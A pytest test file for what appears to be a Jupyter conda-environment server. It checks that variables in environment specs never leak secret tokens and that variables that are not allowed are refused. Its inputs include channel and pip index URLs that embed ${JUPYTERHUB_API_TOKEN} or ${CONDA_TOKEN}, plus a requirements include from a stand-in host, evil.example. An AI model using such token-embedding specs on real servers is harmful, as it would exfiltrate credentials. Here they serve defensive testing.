"""Variables in specs, as REST has them: to look at a spec sends nothing away, and no answer tells what they hold."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from tests.channel.server import Auth, ChannelServer

from .conftest import Call, Reply

TOKEN = "tk-0123456789"
Finish = Callable[[Reply], Awaitable[Any]]


@pytest.fixture
def jp_server_config(
    jp_server_config: dict[str, Any], channel_server: ChannelServer, monkeypatch: pytest.MonkeyPatch
) -> dict[str, Any]:
    monkeypatch.setenv("CONDA_TOKEN", TOKEN)
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", TOKEN)
    monkeypatch.setenv("CHANNEL", "main")
    limits = {"allowed_channels": [f"{channel_server.url}/main"], "denied_variables": ["CAMPUS_*"]}
    return {**jp_server_config, "EnvKernels": {**jp_server_config["EnvKernels"], **limits}}


def spec(*channels: str, pip: str = "") -> str:
    tail = f", pip, pip: ['{pip}']" if pip else ""
    return f"name: lesson\nchannels: {json.dumps(channels)}\ndependencies: [prio-demo{tail}]\n"


async def test_to_look_at_a_spec_sends_nothing_away(call: Call, channel_server: ChannelServer) -> None:
    url = channel_server.url
    for text, errors in (
        (spec(f"{url}/${{JUPYTERHUB_API_TOKEN}}/main"), ["variable-not-allowed"]),
        (spec(f"{url}/t/${{CONDA_TOKEN}}/main", f"{url}/$CONDA_TOKEN"), []),
        (spec("${CONDA_TOKEN}"), []),
    ):
        checked = (await call("POST", "specs/check", {"text": text, "channels": True})).json
        assert [d["code"] for d in checked["diagnostics"] if d["severity"] == "error"] == errors
        assert {d["severity"] for d in checked["diagnostics"] if d["code"] == "channel-not-read"} == {"info"}
        assert TOKEN not in json.dumps(checked)
    await asyncio.sleep(0.5)
    assert channel_server.log == []


async def test_a_job_expands_them(call: Call, finish: Finish, channel_server: ChannelServer, tmp_path: Path) -> None:
    channel_server.auth = Auth(token=TOKEN)
    text = spec(f"{channel_server.url}/t/${{CONDA_TOKEN}}/$CHANNEL")
    planned = await finish(await call("POST", "jobs", {"kind": "plan", "of": {"kind": "create", "text": text}}))
    assert planned["state"] == "succeeded", planned
    plan = (await call("GET", f"jobs/{planned['id']}/plan")).json
    assert plan["warnings"][-1]["code"] == "variables-used"
    assert plan["warnings"][-1]["message"] == "Variables of the server are used: CONDA_TOKEN, CHANNEL."
    job = await finish(await call("POST", f"jobs/{planned['id']}/run", ""))
    assert job["state"] == "succeeded", job
    asked = [f"jobs/{job['id']}/{part}" for part in ("log", "events", "plan")]
    asked += [f"environments/{job['environment_id']}/{part}" for part in ("packages", "history", "export")]
    answers = [(await call("GET", path)).json for path in asked]
    assert "Variables of the server are used: CONDA_TOKEN, CHANNEL." in answers[0]["text"]
    assert TOKEN not in json.dumps([planned, plan, job, *answers])
    files = [path for path in tmp_path.rglob("*") if path.is_file() and not path.is_symlink()]
    assert [path for path in files if TOKEN.encode() in path.read_bytes()] == []


async def test_what_they_stand_for_must_be_allowed(call: Call, channel_server: ChannelServer) -> None:
    refused = await call("POST", "jobs", {"kind": "create", "text": spec(f"{channel_server.url}/$CONDA_TOKEN")})
    assert refused.status == 403
    assert "/$CONDA_TOKEN is not allowed here" in refused.json["message"]
    assert TOKEN not in json.dumps(refused.json)
    assert channel_server.log == []


async def test_requirement_files_are_looked_at(call: Call, channel_server: ChannelServer, jp_root_dir: Path) -> None:
    (jp_root_dir / "course").mkdir()
    (jp_root_dir / "course" / "environment.yml").write_text(spec(f"{channel_server.url}/main", pip="-r a.txt"))
    for line, told in (
        ("--index-url http://127.0.0.1:9/${JUPYTERHUB_API_TOKEN}", "uses the variable JUPYTERHUB_API_TOKEN"),
        ("--index-url http://127.0.0.1:9/${CAMPUS_X}", "uses the variable CAMPUS_X"),
        (
            "-r https://evil.example/b.txt",
            "https://evil.example/b.txt cannot be checked for variables that are not allowed",
        ),
    ):
        (jp_root_dir / "course" / "a.txt").write_text(f"rich\n{line}\n")
        checked = (await call("POST", "specs/check", {"path": "course/environment.yml"})).json
        (error,) = [d for d in checked["diagnostics"] if d["severity"] == "error"]
        assert error["code"] == "variable-not-allowed"
        assert told in error["message"]
        refused = await call("POST", "jobs", {"kind": "create", "path": "course/environment.yml"})
        assert (refused.status, refused.json["code"]) == (403, "not-allowed")
        assert told in refused.json["message"]
    (jp_root_dir / "course" / "a.txt").unlink()
    (jp_root_dir / "course" / "a.txt").symlink_to("/dev/zero")
    checked = (await call("POST", "specs/check", {"path": "course/environment.yml"})).json
    assert "cannot be checked" in str([d["message"] for d in checked["diagnostics"] if d["severity"] == "error"])
    assert (await call("POST", "jobs", {"kind": "create", "path": "course/environment.yml"})).status == 422
    assert (await call("GET", "jobs")).json["jobs"] == []
